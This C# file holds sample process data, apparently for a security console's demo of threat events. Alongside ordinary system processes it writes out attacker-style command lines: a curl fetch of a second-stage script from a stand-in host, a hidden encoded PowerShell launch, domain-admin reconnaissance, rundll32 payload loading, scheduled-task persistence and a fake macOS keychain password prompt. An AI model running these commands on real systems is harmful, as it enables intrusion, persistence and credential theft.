namespace ThreatEvents.EmbeddedConsole.SampleData;

/// <summary>A program that runs on the sample's machines, with a command line as it would be typed.</summary>
internal sealed record SampleProgram(string Os, string Name, string DisplayName, string Path, string? Publisher, string CommandLine)
{
    private const string Microsoft = "MICROSOFT WINDOWS";
    private const string Apple = "APPLE INC.";

    private static readonly SampleProgram[] Programs =
    [
        new("linux", "bash", "bash", "/usr/bin/bash", null, "bash -c 'cat /etc/passwd | cut -d: -f1'"),
        new("linux", "curl", "curl", "/usr/bin/curl", null, "curl -fsSL https://updates.example.net/stage2.sh -o /tmp/.x"),
        new("linux", "sshd", "sshd", "/usr/sbin/sshd", null, "sshd: swimlane-host [priv]"),
        new("linux", "scp", "scp", "/usr/bin/scp", null, "scp -t /home/swimlane-host/"),
        new("linux", "python3.9", "python3", "/usr/bin/python3.9", null, "python3 -c \"import os; print(os.uname())\""),
        new("linux", "crond", "crond", "/usr/sbin/crond", null, "/usr/sbin/crond -n"),
        new("linux", "systemd", "systemd", "/usr/lib/systemd/systemd", null, "/usr/lib/systemd/systemd --switched-root --system"),
        new("linux", "nginx", "nginx", "/usr/sbin/nginx", null, "nginx: worker process"),
        new("windows", "explorer.exe", "Windows Explorer", @"C:\Windows\explorer.exe", Microsoft, @"C:\Windows\Explorer.EXE"),
        new("windows", "powershell.exe", "Windows PowerShell", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", Microsoft, "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0A"),
        new("windows", "cmd.exe", "Windows Command Processor", @"C:\Windows\System32\cmd.exe", Microsoft, "cmd.exe /c \"whoami /all & net group \"\"Domain Admins\"\" /domain\""),
        new("windows", "svchost.exe", "Host Process for Windows Services", @"C:\Windows\System32\svchost.exe", Microsoft, @"C:\Windows\system32\svchost.exe -k netsvcs -p"),
        new("windows", "WINWORD.EXE", "Microsoft Word", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "MICROSOFT CORPORATION", "\"WINWORD.EXE\" /n \"C:\\Users\\m.rossi\\Downloads\\Fattura 2021-12.docm\""),
        new("windows", "rundll32.exe", "Windows host process (Rundll32)", @"C:\Windows\System32\rundll32.exe", Microsoft, @"rundll32.exe C:\ProgramData\up.dat,#1"),
        new("windows", "lsass.exe", "Local Security Authority Process", @"C:\Windows\System32\lsass.exe", Microsoft, @"C:\Windows\system32\lsass.exe"),
        new("windows", "schtasks.exe", "Task Scheduler Configuration Tool", @"C:\Windows\System32\schtasks.exe", Microsoft, @"schtasks /create /sc minute /mo 30 /tn OneDriveSync /tr C:\ProgramData\up.exe"),
        new("windows", "up.exe", "up.exe", @"C:\ProgramData\up.exe", null, @"C:\ProgramData\up.exe --quiet"),
        new("macos", "zsh", "zsh", "/bin/zsh", Apple, "-zsh"),
        new("macos", "osascript", "osascript", "/usr/bin/osascript", Apple, "osascript -e 'display dialog \"Passwort für Schlüsselbund?\" default answer \"\" with hidden answer'"),
        new("macos", "launchd", "launchd", "/sbin/launchd", Apple, "/sbin/launchd"),
        new("macos", "Google Chrome", "Google Chrome", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "GOOGLE LLC", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome --type=utility"),
        new("macos", "Installer", "Installer", "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer", Apple, "Installer /Users/ana/Downloads/会議ツール.pkg"),
        new("macos", "mDNSResponder", "mDNSResponder", "/usr/sbin/mDNSResponder", Apple, "/usr/sbin/mDNSResponder"),
    ];

    public static IReadOnlyList<SampleProgram> On(string os) => [.. Programs.Where(program => program.Os == os)];
}
